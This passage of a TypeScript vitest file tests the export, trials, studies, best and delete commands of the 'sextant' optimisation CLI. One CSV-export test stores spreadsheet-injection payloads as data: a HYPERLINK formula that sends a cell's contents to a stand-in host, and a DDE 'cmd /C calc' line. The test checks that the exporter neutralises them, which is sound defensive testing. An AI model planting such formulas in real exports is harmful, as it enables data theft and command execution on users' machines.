import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it, onTestFinished, vi } from "vitest";
import { feasibleParetoFront } from "../analysis/index.js";
import type { Distribution, JsonValue, ParamValue } from "../space/index.js";
import { SCHEDULER_ATTR, populationLineage, segmentAttrs } from "../schedulers/index.js";
import { SqliteStorage } from "../storage/sqlite.js";
import { API_SPELLING, tagNonFinite } from "../space/non-finite-json.js";
import { bestCommand, deleteCommand, exportCommand, listStudiesCommand, listTrialsCommand, trialJson } from "./inspect.js";
import { csvField } from "./format.js";
import type { Io } from "./io.js";

const quietIo: Io = { out: () => undefined, err: () => undefined, write: () => undefined, stdinIsTTY: false, stderrIsTTY: false };

describe("sextant export", () => {
  it("writes the CSV of a study of 130,000 trials", async () => {
    // The constraint columns were counted with Math.max(...one number per trial), which overflowed
    // the call stack past about 125,000 trials: the export failed, constraints or none.
    const dir = mkdtempSync(join(tmpdir(), "sextant-export-"));
    try {
      const storage = SqliteStorage.open(join(dir, "big.db"));
      const study = await storage.createStudy("big", ["minimize"]);
      await storage.queueTrials!(study.id, 130_000);
      const last = await storage.createTrial(study.id, { state: "running", systemAttrs: { constraints: [0.5, -1] } });
      await storage.updateTrial(last.id, { state: "complete", values: [1] });
      await storage.close();
      const output = join(dir, "big.csv");
      expect(await exportCommand("big", { storage: `sqlite:${join(dir, "big.db")}`, output }, quietIo)).toBe(0);
      const lines = readFileSync(output, "utf8").trimEnd().split("\n");
      expect(lines).toHaveLength(130_002);
      expect(lines[0]!.split(",").slice(0, 5)).toEqual(["number", "state", "value", "constraint_0", "constraint_1"]);
      expect(lines.at(-1)!.split(",").slice(0, 5)).toEqual(["130000", "complete", "1", "0.5", "-1"]);
    } finally {
      rmSync(dir, { recursive: true });
    }
  }, 60_000);
});

/** A study of every kind of trial in a SQLite file: complete, pruned, failed, running and waiting, with `padding` more complete ones. */
async function studyOfEveryKind(path: string, padding: number): Promise<void> {
  const storage = SqliteStorage.open(path);
  const study = await storage.createStudy("every", ["minimize", "maximize"], { userAttrs: { owner: "ana", loss: -Infinity }, systemAttrs: { constraintCount: 1 } });
  const x: Distribution = { type: "float", low: -5, high: 5 };
  const label: Distribution = { type: "categorical", choices: ["plain", 'say "hi"', "two\nlines", "ünïcode ✓", ""] };
  const params = (i: number) => ({ x: { value: i / 10 - 5, distribution: x }, label: { value: label.choices[i % 5]!, distribution: label } });
  const finish = async (i: number, patch: Parameters<typeof storage.updateTrial>[1]) => {
    const trial = await storage.createTrial(study.id, { state: "running" });
    await storage.updateTrial(trial.id, { params: params(i), userAttrs: { note: `trial ${i}`, nested: { list: [1, "a", null] } }, ...patch });
  };
  await finish(0, { state: "complete", values: [NaN, Infinity], systemAttrs: { constraints: [-1] }, intermediate: { 0: 1.5, 3: -Infinity } });
  await finish(1, { state: "pruned", values: [2, 3], intermediate: { 0: 9 } });
  await finish(2, { state: "failed", systemAttrs: { failReason: 'exit code 1: bad "input"\nTraceback' } });
  await storage.createTrial(study.id, { state: "running", params: { x: 0.5 }, distributions: { x }, systemAttrs: { worker: "w1" } });
  await storage.createTrial(study.id, { state: "waiting", systemAttrs: { fixedParams: { x: 2.5 } } });
  for (let i = 5; i < 5 + padding; i++) await finish(i, { state: "complete", values: [i, -i], systemAttrs: { constraints: [i % 2 ? 1 : -1] } });
  await storage.createStudy("empty", ["minimize"]);
  await storage.close();
}

/** Calls `body` with a temporary folder and a SQLite file in it holding "every" (of every kind, 1,500 more complete trials) and "empty"; removes the folder after. */
async function withStudiesOfEveryKind(body: (dir: string, path: string) => Promise<void>): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), "sextant-export-"));
  try {
    const path = join(dir, "every.db");
    await studyOfEveryKind(path, 1_500);
    await body(dir, path);
  } finally {
    rmSync(dir, { recursive: true });
  }
}

/** A CSV document as the one-string export joined it: fields quoted by csvField, CRLF after each row. */
function headersAndRowsAsOneString(rows: readonly (readonly string[])[]): string {
  return rows.map((row) => row.map(csvField).join(",")).join("\r\n") + "\r\n";
}

describe("sextant export --format json", () => {
  /** What export wrote as one string before it streamed: the study's fields, then every trial. */
  async function asOneString(path: string, name: string, exportedAt: string): Promise<string> {
    const storage = SqliteStorage.open(path, { readOnly: true });
    try {
      const record = (await storage.getStudy(name))!;
      const { trials } = await storage.trialsSince(record.id, 0);
      const createdAt = new Date(record.createdAt).toISOString();
      const study = { study: record.name, directions: record.directions, createdAt, exportedAt, userAttrs: tagNonFinite(record.userAttrs, API_SPELLING), systemAttrs: tagNonFinite(record.systemAttrs, API_SPELLING) };
      return JSON.stringify({ ...study, trials: trials.map(trialJson) }, null, 2) + "\n";
    } finally {
      await storage.close();
    }
  }

  it("streams the same bytes the one string held, a piece at a time, to stdout, to - and to a file", async () => {
    await withStudiesOfEveryKind(async (dir, path) => {
      for (const name of ["every", "empty"]) {
        const writes: string[] = [];
        const io: Io = { ...quietIo, write: (text) => writes.push(text) };
        expect(await exportCommand(name, { storage: `sqlite:${path}`, format: "json" }, io)).toBe(0);
        const text = writes.join("");
        const expected = await asOneString(path, name, JSON.parse(text).exportedAt);
        expect(text).toBe(expected);
        // Written as it is made: many pieces, none near the whole (it was one write of it all).
        if (name === "every") {
          expect(expected.length).toBeGreaterThan(1_000_000);
          expect(writes.length).toBeGreaterThan(10);
          expect(Math.max(...writes.map((chunk) => chunk.length))).toBeLessThan(expected.length / 10);
        }
        const dashes: string[] = [];
        expect(await exportCommand(name, { storage: `sqlite:${path}`, json: true, output: "-" }, { ...quietIo, write: (chunk) => dashes.push(chunk) })).toBe(0);
        expect(dashes.join("")).toBe(await asOneString(path, name, JSON.parse(dashes.join("")).exportedAt));
        const file = join(dir, `${name}.json`);
        expect(await exportCommand(name, { storage: `sqlite:${path}`, format: "json", output: file }, quietIo)).toBe(0);
        const written = readFileSync(file, "utf8");
        expect(written).toBe(await asOneString(path, name, JSON.parse(written).exportedAt));
      }
    });
  }, 60_000);
});

describe("sextant export --format csv", () => {
  /** The rows of an RFC 4180 document with CRLF line ends. */
  function parseCsv(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let i = 0;
    while (i < text.length) {
      let field = "";
      if (text[i] === '"') {
        for (i++; !(text[i] === '"' && text[i + 1] !== '"'); i++) field += text[i] === '"' ? text[i++] : text[i];
        i++;
      } else {
        for (; text[i] !== "," && text[i] !== "\r"; i++) field += text[i];
      }
      row.push(field);
      if (text[i] === "\r") {
        rows.push(row);
        row = [];
        i += 2;
      } else {
        i++;
      }
    }
    return rows;
  }

  it("streams the document the one string held, a piece at a time, to stdout, to - and to a file", async () => {
    await withStudiesOfEveryKind(async (dir, path) => {
      for (const name of ["every", "empty"]) {
        const writes: string[] = [];
        expect(await exportCommand(name, { storage: `sqlite:${path}`, format: "csv" }, { ...quietIo, write: (text) => writes.push(text) })).toBe(0);
        const text = writes.join("");
        // Quoted as the one string quoted it: the rows read back and joined the way it joined them are the same text.
        const rows = parseCsv(text);
        expect([headersAndRowsAsOneString(rows)]).toEqual([text]);
        if (name === "every") {
          expect(rows).toHaveLength(1 + 5 + 1_500);
          expect(rows[1]).toEqual(expect.arrayContaining(["0", "complete", "NaN", "Infinity", "-1", "plain"]));
          expect(rows[3]).toEqual(expect.arrayContaining(["2", "failed", "two\nlines", 'exit code 1: bad "input"\nTraceback']));
          expect(rows.slice(4, 6).map((r) => r.slice(0, 2))).toEqual([["3", "running"], ["4", "waiting"]]);
          // Written as it is made: many pieces, none near the whole (it was one write of it all).
          expect(writes.length).toBeGreaterThan(2);
          expect(Math.max(...writes.map((chunk) => chunk.length))).toBeLessThan(text.length / 2);
        } else {
          expect(rows).toHaveLength(1);
        }
        const dashes: string[] = [];
        expect(await exportCommand(name, { storage: `sqlite:${path}`, output: "-" }, { ...quietIo, write: (chunk) => dashes.push(chunk) })).toBe(0);
        expect(dashes.join("")).toBe(text);
        const file = join(dir, `${name}.csv`);
        expect(await exportCommand(name, { storage: `sqlite:${path}`, format: "csv", output: file }, quietIo)).toBe(0);
        expect(readFileSync(file, "utf8")).toBe(text);
      }
    });
  }, 60_000);
});

describe("sextant export: CSV a spreadsheet opens without running formulas", () => {
  it("starts text cells that a spreadsheet would run with a ', and leaves numbers, negative ones too, as they are", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-export-"));
    onTestFinished(() => rmSync(dir, { recursive: true }));
    const storage = SqliteStorage.open(join(dir, "f.db"));
    const study = await storage.createStudy("f", ["minimize"]);
    const flag: Distribution = { type: "categorical", choices: ["-O2", "=1+1", "@x", "-1", -3, "plain"] };
    const x: Distribution = { type: "float", low: -5, high: 5 };
    const add = async (choice: ParamValue, patch: Parameters<typeof storage.updateTrial>[1]) => {
      const trial = await storage.createTrial(study.id, { state: "running" });
      await storage.updateTrial(trial.id, { params: { flag: { value: choice, distribution: flag }, x: { value: -2.5, distribution: x } }, ...patch });
    };
    await add("-O2", { state: "complete", values: [-1.5] });
    await add("=1+1", { state: "failed", systemAttrs: { failReason: '=HYPERLINK("https://x.test/?"&A2,"details")' } });
    await add("@x", { state: "complete", values: [-Infinity] });
    await add("-1", { state: "complete", values: [2] });
    await add(-3, { state: "failed", systemAttrs: { failReason: "+cmd|' /C calc'!A0" } });
    await storage.close();
    let text = "";
    expect(await exportCommand("f", { storage: `sqlite:${join(dir, "f.db")}` }, { ...quietIo, write: (piece) => (text += piece) })).toBe(0);
    const rows = text.trimEnd().split("\r\n").map((line) => line.split(","));
    expect(rows[0]!.slice(0, 5)).toEqual(["number", "state", "value", "params_flag", "params_x"]);
    expect(rows.slice(1).map((row) => row.slice(2, 5))).toEqual([
      ["-1.5", "'-O2", "-2.5"],
      ["", "'=1+1", "-2.5"],
      ["-Infinity", "'@x", "-2.5"],
      ["2", "-1", "-2.5"],
      ["", "-3", "-2.5"],
    ]);
    expect(text).toContain(`"'=HYPERLINK(""https://x.test/?""&A2,""details"")"`);
    expect(rows[5]!.at(-1)).toBe("'+cmd|' /C calc'!A0");
  });
});

describe("sextant trials", () => {
  it("tells an empty-string choice from a parameter the trial lacks, and leaves --json as it is", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-trials-"));
    const storage = SqliteStorage.open(join(dir, "s.db"));
    const study = await storage.createStudy("s", ["minimize"]);
    const kind: Distribution = { type: "categorical", choices: ["", "a"] };
    const depth: Distribution = { type: "int", low: 1, high: 3 };
    const rows: Record<string, { value: ParamValue; distribution: Distribution }>[] = [{ kind: { value: "", distribution: kind } }, { kind: { value: "a", distribution: kind }, depth: { value: 2, distribution: depth } }];
    for (const params of rows) {
      const trial = await storage.createTrial(study.id, { state: "running" });
      await storage.updateTrial(trial.id, { params, state: "complete", values: [1] });
    }
    await storage.close();
    const list = async (json: boolean) => {
      let text = "";
      const io: Io = { ...quietIo, out: (line) => (text += `${line}\n`), write: (piece) => (text += piece) };
      expect(await listTrialsCommand("s", { storage: `sqlite:${join(dir, "s.db")}`, json }, io)).toBe(0);
      return text.replace(/\n$/, "");
    };
    // Both cells of trial 0 were blank: the empty choice and the depth it does not have.
    const table = (await list(false)).split("\n").map((line) => line.trimEnd());
    expect(table[0]).toMatch(/^number +state +value +kind +depth /);
    // kind "", depth blank, then the duration.
    expect(table[2]).toMatch(/^ *0 +complete +1 +"" +\S+$/);
    expect(table[3]).toMatch(/^ *1 +complete +1 +a +2 +\S+$/);
    expect(JSON.parse(await list(true)).map((t: { params: object }) => t.params)).toEqual([{ kind: "" }, { kind: "a", depth: 2 }]);
    rmSync(dir, { recursive: true });
  });
});

describe("sextant trials on a population study", () => {
  it("shows each trial's member, segment and parent, as columns and in --json, and nothing more for other studies", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-trials-pop-"));
    try {
      const storage = SqliteStorage.open(join(dir, "s.db"));
      const schedule = { name: "pbt", population: 2, segments: 2, segmentSteps: 1 };
      const pop = await storage.createStudy("pop", ["maximize"], { systemAttrs: { [SCHEDULER_ATTR]: schedule } });
      const plain = await storage.createStudy("plain", ["maximize"]);
      // Members 0 and 1 train segment 0; member 1's segment 1 copies member 0 (continues from trial 0); member 0's waits.
      const places = [
        { member: 0, segment: 0, parent: null, exploitedFrom: null, checkpoint: null },
        { member: 1, segment: 0, parent: null, exploitedFrom: null, checkpoint: null },
        { member: 1, segment: 1, parent: 0, exploitedFrom: 0, checkpoint: "ck-0" },
      ];
      for (const [i, place] of places.entries()) {
        const trial = await storage.createTrial(pop.id, { state: "running", systemAttrs: segmentAttrs(place) });
        await storage.updateTrial(trial.id, { state: "complete", values: [i] });
      }
      await storage.createTrial(pop.id, { state: "waiting", systemAttrs: segmentAttrs({ member: 0, segment: 1, parent: 0, exploitedFrom: null, checkpoint: null }) });
      const done = await storage.createTrial(plain.id, { state: "running" });
      await storage.updateTrial(done.id, { state: "complete", values: [1] });
      await storage.close();
      const list = async (name: string, json: boolean) => {
        let text = "";
        const io: Io = { ...quietIo, out: (line) => (text += `${line}\n`), write: (piece) => (text += piece) };
        expect(await listTrialsCommand(name, { storage: `sqlite:${join(dir, "s.db")}`, json }, io)).toBe(0);
        return text.replace(/\n$/, "");
      };
      const table = (await list("pop", false)).split("\n").map((line) => line.trimEnd());
      expect(table[0]).toMatch(/^number +member +segment +parent +state +value /);
      expect(table.slice(2).map((line) => line.trim().split(/ +/).slice(0, 5))).toEqual([
        ["0", "0", "0", "-", "complete"],
        ["1", "1", "0", "-", "complete"],
        ["2", "1", "1", "0", "complete"],
        ["3", "0", "1", "0", "waiting"],
      ]);
      const json = JSON.parse(await list("pop", true)) as Record<string, unknown>[];
      expect(json.map((t) => [t.number, t.member, t.segment, t.parent])).toEqual([
        [0, 0, 0, null],
        [1, 1, 0, null],
        [2, 1, 1, 0],
        [3, 0, 1, 0],
      ]);
      expect(Object.keys(json[0]!).slice(0, 5)).toEqual(["number", "member", "segment", "parent", "state"]);
      // A study that is no population lists as it did.
      expect((await list("plain", false)).split("\n")[0]).toMatch(/^number +state +value +duration +note$/);
      expect(Object.keys(JSON.parse(await list("plain", true))[0])).not.toContain("member");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("sextant trials, best and export on stored constraints that are not a list of numbers", () => {
  it("shows such a trial as infeasible, with empty constraint cells, where trials and export threw", async () => {
    // Written through the storage API (an import, another client), not by Sextant.
    for (const malformed of ["x", [1, "a"]] as JsonValue[]) {
      const dir = mkdtempSync(join(tmpdir(), "sextant-malformed-"));
      try {
        const storage = SqliteStorage.open(join(dir, "s.db"));
        const study = await storage.createStudy("s", ["minimize"]);
        const x: Distribution = { type: "float", low: 0, high: 1 };
        for (const [value, constraints] of [[0.3, [-1]], [0.1, malformed], [0.5, [0.2]]] as [number, JsonValue][]) {
          const trial = await storage.createTrial(study.id, { state: "running" });
          await storage.updateTrial(trial.id, { params: { x: { value, distribution: x } }, state: "complete", values: [value], systemAttrs: { constraints } });
        }
        await storage.close();
        const run = async (command: (io: Io) => Promise<number>) => {
          const out: string[] = [];
          expect(await command({ ...quietIo, out: (line) => out.push(line), write: (chunk) => out.push(chunk) })).toBe(0);
          return out.join("\n");
        };
        const url = `sqlite:${join(dir, "s.db")}`;
        const table = (await run((io) => listTrialsCommand("s", { storage: url }, io))).split("\n").map((line) => line.trimEnd());
        expect(table.slice(2)).toEqual([
          expect.stringMatching(/^ *0 +complete +0\.3 +0\.3 +\S+$/),
          expect.stringMatching(/^ *1 +complete +0\.1 +0\.1 +\S+ +infeasible \(stored constraints are not a list of numbers\)$/),
          expect.stringMatching(/^ *2 +complete +0\.5 +0\.5 +\S+ +infeasible \(violation 0\.2\)$/),
        ]);
        const csv = (await run((io) => exportCommand("s", { storage: url, format: "csv" }, io))).split("\r\n");
        expect(csv.slice(0, 4).map((line) => line.split(",").slice(0, 6))).toEqual([
          ["number", "state", "value", "constraint_0", "feasible", "params_x"],
          ["0", "complete", "0.3", "-1", "true", "0.3"],
          ["1", "complete", "0.1", "", "false", "0.1"],
          ["2", "complete", "0.5", "0.2", "false", "0.5"],
        ]);
        expect(JSON.parse(await run((io) => bestCommand("s", { storage: url, json: true }, io))).best.number).toBe(0);
      } finally {
        rmSync(dir, { recursive: true });
      }
    }
  });

  it("marks such a trial infeasible in the CSV when no trial stores constraints as a list, where it read as the best row", async () => {
    // No constraint column came out, so trial 1 (value 0.1) looked better than trial 0, the one best names.
    const dir = mkdtempSync(join(tmpdir(), "sextant-malformed-"));
    try {
      const storage = SqliteStorage.open(join(dir, "s.db"));
      const study = await storage.createStudy("s", ["minimize"]);
      const x: Distribution = { type: "float", low: 0, high: 1 };
      for (const [value, systemAttrs] of [[0.3, {}], [0.1, { constraints: "x" }]] as [number, Record<string, JsonValue>][]) {
        const trial = await storage.createTrial(study.id, { state: "running" });
        await storage.updateTrial(trial.id, { params: { x: { value, distribution: x } }, state: "complete", values: [value], systemAttrs });
      }
      await storage.createTrial(study.id, { state: "running" });
      await storage.close();
      const out: string[] = [];
      const io: Io = { ...quietIo, out: (line) => out.push(line), write: (chunk) => out.push(chunk) };
      const url = `sqlite:${join(dir, "s.db")}`;
      expect(await exportCommand("s", { storage: url, format: "csv" }, io)).toBe(0);
      expect(out.join("").split("\r\n").slice(0, 4).map((line) => line.split(",").slice(0, 5))).toEqual([
        ["number", "state", "value", "feasible", "params_x"],
        ["0", "complete", "0.3", "true", "0.3"],
        ["1", "complete", "0.1", "false", "0.1"],
        // Not finished: nothing to judge.
        ["2", "running", "", "", ""],
      ]);
      out.length = 0;
      expect(await bestCommand("s", { storage: url, json: true }, io)).toBe(0);
      expect(JSON.parse(out.join("\n")).best.number).toBe(0);
    } finally {
      rmSync(dir, { recursive: true });
    }
  });
});

describe("sextant studies", () => {
  it("says none is feasible for a study whose complete trials all violate a constraint, not the '-' of one with no result", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-studies-"));
    try {
      const storage = SqliteStorage.open(join(dir, "s.db"));
      for (const [name, constraints] of [["infeasible", [1]], ["feasible", [-1]], ["empty", null]] as const) {
        const study = await storage.createStudy(name, ["minimize"]);
        if (constraints === null) continue;
        const trial = await storage.createTrial(study.id, { state: "running", systemAttrs: { constraints: [...constraints] } });
        await storage.updateTrial(trial.id, { state: "complete", values: [0.5] });
      }
      await storage.close();
      const out: string[] = [];
      expect(await listStudiesCommand({ storage: `sqlite:${join(dir, "s.db")}` }, { ...quietIo, out: (line) => out.push(line) })).toBe(0);
      const best = (name: string) => out.join("\n").split("\n").find((line) => line.startsWith(`${name} `))!.split(/ {2,}/)[7];
      expect(best("infeasible")).toBe("none feasible");
      expect(best("feasible")).toBe("0.5");
      expect(best("empty")).toBe("-");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("counts a multi-objective study's front from its complete trials alone, as from all of them", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-studies-"));
    const readAll = vi.spyOn(SqliteStorage.prototype, "trialsSince");
    try {
      const storage = SqliteStorage.open(join(dir, "s.db"));
      const study = await storage.createStudy("two", ["minimize", "maximize"]);
      // Trial 1 has no constraint values: of unknown feasibility once trial 0 makes the study constrained.
      const results: [number[] | null, number[] | null, "complete" | "pruned" | "failed"][] = [
        [[2, 2], [-1], "complete"],
        [[0, 9], null, "complete"],
        [[1, 1], [0], "complete"],
        [[3, 3], [-1], "complete"],
        [[0, 1], [2], "complete"],
        [[0, 99], [-1], "pruned"],
        [null, null, "failed"],
      ];
      for (const [values, constraints, state] of results) {
        const trial = await storage.createTrial(study.id, { state: "running", ...(constraints ? { systemAttrs: { constraints } } : {}) });
        await storage.updateTrial(trial.id, { state, values });
      }
      await storage.createTrial(study.id, { state: "running" });
      const all = (await storage.trialsSince(study.id, 0)).trials;
      await storage.close();
      readAll.mockClear();
      const out: string[] = [];
      expect(await listStudiesCommand({ storage: `sqlite:${join(dir, "s.db")}`, json: true }, { ...quietIo, out: (line) => out.push(line) })).toBe(0);
      expect(readAll).not.toHaveBeenCalled();
      expect(JSON.parse(out.join("\n"))[0].paretoFrontSize).toBe(feasibleParetoFront(all, ["minimize", "maximize"]).length);
      expect(feasibleParetoFront(all, ["minimize", "maximize"]).map((t) => t.number)).toEqual([2, 0, 3]);
    } finally {
      readAll.mockRestore();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** A command's output, both streams as they interleave, with the export's time of reading blanked. */
async function printed(command: (io: Io) => Promise<number>): Promise<string> {
  let text = "";
  expect(await command({ ...quietIo, out: (line) => (text += `${line}\n`), write: (piece) => (text += piece) })).toBe(0);
  return text.replace(/\n$/, "").replace(/"exportedAt": "[^"]*"/, '"exportedAt": "…"');
}

/**
 * What `commands` print on a SQLite study, by name, checked against what they print when the
 * storage has no selective reads, so that every trial is read at once and selected here: the
 * first run must not read every trial (`trialsSince`), and `whileSelective` checks it further.
 */
async function sameAsReadingEveryTrial(commands: [string, (io: Io) => Promise<number>][], whileSelective: () => void = () => undefined): Promise<Map<string, string>> {
  const readAll = vi.spyOn(SqliteStorage.prototype, "trialsSince");
  const { findTrials } = SqliteStorage.prototype;
  try {
    const shown = new Map<string, string>();
    for (const [name, command] of commands) shown.set(name, await printed(command));
    expect(readAll).not.toHaveBeenCalled();
    whileSelective();
    (SqliteStorage.prototype as { findTrials?: unknown }).findTrials = undefined;
    for (const [name, command] of commands) expect(await printed(command), name).toBe(shown.get(name));
    expect(readAll).toHaveBeenCalled();
    return shown;
  } finally {
    SqliteStorage.prototype.findTrials = findTrials;
    readAll.mockRestore();
  }
}

describe("sextant best and trials on a large study", () => {
  it("read only the trials they show, and show what reading every trial showed", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-reads-"));
    try {
      const url = `sqlite:${join(dir, "s.db")}`;
      const storage = SqliteStorage.open(join(dir, "s.db"));
      const study = await storage.createStudy("mix", ["minimize"]);
      const x: Distribution = { type: "float", low: 0, high: 10 };
      const finish = async (state: "complete" | "pruned" | "failed", value: number | null, constraints: number[] | null) =>
        storage.insertFinishedTrial!(study.id, {
          state,
          params: { x: value ?? 0 },
          distributions: { x },
          values: value === null ? null : [value],
          intermediate: state === "pruned" ? { 3: 4.5 } : {},
          userAttrs: {},
          systemAttrs: constraints === null ? {} : { constraints },
          startedAt: 1_600_000_000_000,
          finishedAt: 1_600_000_002_000,
        });
      await finish("complete", 2, [-1]);
      await finish("complete", 1, [-1]); // the best: tied with trial 4, and earlier
      await finish("complete", 0.5, [0.3]); // better, but infeasible
      await finish("pruned", null, null);
      await finish("complete", 1, [0]);
      await finish("failed", null, null);
      await storage.createTrial(study.id, { state: "running" });
      for (let i = 0; i < 300; i++) await finish(i % 3 === 0 ? "pruned" : "complete", 5 + i, [-1]);
      await finish("complete", 7, null); // of unknown feasibility: only trial 0 says the study is constrained
      await storage.createTrial(study.id, { state: "waiting" });
      await storage.close();

      const commands: [string, (io: Io) => Promise<number>][] = [
        ["trials --limit 3", (io) => listTrialsCommand("mix", { storage: url, limit: 3 }, io)],
        ["trials --state pruned,failed --limit 4", (io) => listTrialsCommand("mix", { storage: url, state: "pruned,failed", limit: 4 }, io)],
        ["trials --state failed --json", (io) => listTrialsCommand("mix", { storage: url, state: "failed", json: true }, io)],
        ["best", (io) => bestCommand("mix", { storage: url }, io)],
        ["best --json", (io) => bestCommand("mix", { storage: url, json: true }, io)],
      ];
      const shown = await sameAsReadingEveryTrial(commands);
      const rows = (name: string) => shown.get(name)!.split("\n").slice(2).map((line) => line.trim().split(/ +/).slice(0, 2).join(" "));
      expect(rows("trials --limit 3")).toEqual(["306 complete", "307 complete", "308 waiting"]);
      expect(shown.get("trials --limit 3")).toMatch(/^ *307 +complete +7 +7 +2.0s +feasibility unknown \(no constraints reported\)$/m);
      expect(rows("trials --state pruned,failed --limit 4")).toEqual(["295 pruned", "298 pruned", "301 pruned", "304 pruned"]);
      expect(JSON.parse(shown.get("trials --state failed --json")!).map((t: { number: number }) => t.number)).toEqual([5]);
      expect(shown.get("best")).toMatch(/^best trial of "mix" \(minimize\): trial 1, value 1$/m);
      expect(JSON.parse(shown.get("best --json")!).best.number).toBe(1);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("sextant export of a study that changes while it is read", () => {
  it("says which rows lack a parameter or constraint values a trial got after the columns were chosen", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-changing-"));
    try {
      const path = join(dir, "s.db");
      const storage = SqliteStorage.open(path);
      const study = await storage.createStudy("live", ["minimize"]);
      const x: Distribution = { type: "float", low: 0, high: 1 };
      const done = await storage.createTrial(study.id, { state: "running", params: { x: 0.1 }, distributions: { x } });
      await storage.updateTrial(done.id, { state: "complete", values: [1] });
      const running = await storage.createTrial(study.id, { state: "running", params: { x: 0.2 }, distributions: { x } });
      // The second read of the export begins: the running trial, a worker's, has meanwhile
      // suggested another parameter and finished infeasible.
      const { findTrials } = SqliteStorage.prototype;
      let fromTheStart = 0;
      const spy = vi.spyOn(SqliteStorage.prototype, "findTrials").mockImplementation(async function (this: SqliteStorage, studyId, query) {
        if (query?.afterNumber === -1 && ++fromTheStart === 2) {
          await storage.updateTrial(running.id, {
            params: { y: { value: 3, distribution: { type: "int", low: 0, high: 9, step: 1, log: false } } },
            state: "complete",
            values: [0],
            systemAttrs: { constraints: [1] },
          });
        }
        return findTrials.call(this, studyId, query);
      });
      const errors: string[] = [];
      let text = "";
      try {
        expect(await exportCommand("live", { storage: `sqlite:${path}` }, { ...quietIo, err: (line) => errors.push(line), write: (piece) => (text += piece) })).toBe(0);
      } finally {
        spy.mockRestore();
        await storage.close();
      }
      expect(fromTheStart).toBe(2);
      expect(text.split("\r\n")[0]).toBe("number,state,value,params_x,datetime_start,datetime_complete,duration_seconds,fail_reason");
      expect(errors.filter((line) => /trial\(s\) 1 got a parameter or constraint values while the study was read/.test(line))).toHaveLength(1);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("sextant trials and export on a study of several pages", () => {
  it("read it a page at a time, and show what reading every trial at once showed", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-pages-"));
    try {
      const url = `sqlite:${join(dir, "s.db")}`;
      const storage = SqliteStorage.open(join(dir, "s.db"));
      const study = await storage.createStudy("paged", ["minimize"], { systemAttrs: { constraintCount: 2 } });
      const x: Distribution = { type: "float", low: 0, high: 1 };
      const late: Distribution = { type: "categorical", choices: ["a", "b"] };
      // A parameter and constraints that first appear on the third page: the columns of the table
      // and of the CSV come from every page, not the first.
      await storage.insertTrials!(
        study.id,
        Array.from({ length: 2_500 }, (_, i) => {
          const state = i % 11 === 0 ? ("failed" as const) : i % 7 === 0 ? ("pruned" as const) : ("complete" as const);
          return {
            state,
            params: (i > 2_100 ? { x: i / 2_500, late: late.choices[i % 2]! } : { x: i / 2_500 }) as Record<string, ParamValue>,
            distributions: (i > 2_100 ? { x, late } : { x }) as Record<string, Distribution>,
            values: state === "failed" ? null : [Math.sin(i)],
            intermediate: (state === "pruned" ? { 1: 0.5 } : {}) as Record<number, number>,
            userAttrs: { i },
            systemAttrs: (state === "failed" ? { failReason: `exit ${i}` } : i > 2_200 && state === "complete" ? { constraints: [(i % 3) - 1, -1] } : {}) as Record<string, JsonValue>,
            startedAt: 1_600_000_000_000 + i * 1_000,
            finishedAt: 1_600_000_001_234 + i * 1_000,
          };
        }),
      );
      await storage.createTrial(study.id, { state: "waiting", systemAttrs: { fixedParams: { x: 0.5, other: 3 } } });
      await storage.close();

      const commands: [string, (io: Io) => Promise<number>][] = [
        ["trials", (io) => listTrialsCommand("paged", { storage: url }, io)],
        ["trials --json", (io) => listTrialsCommand("paged", { storage: url, json: true }, io)],
        ["trials --state complete,waiting", (io) => listTrialsCommand("paged", { storage: url, state: "complete,waiting" }, io)],
        ["export", (io) => exportCommand("paged", { storage: url }, io)],
        ["export --format json", (io) => exportCommand("paged", { storage: url, format: "json" }, io)],
      ];
      const selective = vi.spyOn(SqliteStorage.prototype, "findTrials");
      let shown: Map<string, string>;
      try {
        shown = await sameAsReadingEveryTrial(commands, () => {
          // Every read is a page: it asked for at most a thousand trials.
          const queries = selective.mock.calls.map(([, query]) => query);
          expect(queries.length).toBeGreaterThan(10);
          expect(queries.every((query) => query.limit !== undefined && query.limit <= 1_000), JSON.stringify(queries)).toBe(true);
        });
      } finally {
        selective.mockRestore();
      }
      expect(shown.get("trials")!.split("\n")[0]).toMatch(/^number +state +value +x +late +other +duration +note$/);
      expect(shown.get("export")!.split("\r\n")[0]).toBe("number,state,value,constraint_0,constraint_1,feasible,params_x,params_late,params_other,datetime_start,datetime_complete,duration_seconds,fail_reason");
      expect(JSON.parse(shown.get("trials --json")!)).toHaveLength(2_501);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});

describe("sextant delete", () => {
  it("says how many trials it deletes without reading every trial", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-delete-"));
    const readAll = vi.spyOn(SqliteStorage.prototype, "trialsSince");
    try {
      const url = `sqlite:${join(dir, "s.db")}`;
      const storage = SqliteStorage.open(join(dir, "s.db"));
      const study = await storage.createStudy("big", ["minimize"]);
      await storage.createStudy("empty", ["minimize"]);
      await storage.queueTrials!(study.id, 2_000);
      const running = await storage.createTrial(study.id, { state: "running" });
      await storage.updateTrial(running.id, { state: "complete", values: [1] });
      await storage.createTrial(study.id, { state: "running" });
      await storage.close();
      readAll.mockClear();
      const said = async (name: string, yes: boolean) => {
        const out: string[] = [];
        const code = await deleteCommand(name, { storage: url, yes, json: true }, { ...quietIo, out: (line) => out.push(line) }).catch((error: Error) => error.message);
        return { code, out: out.join("\n") };
      };
      expect(await said("big", false)).toEqual({ code: 'refusing to delete study "big" (2002 trials) without --yes: stdin is not a terminal to confirm on', out: "" });
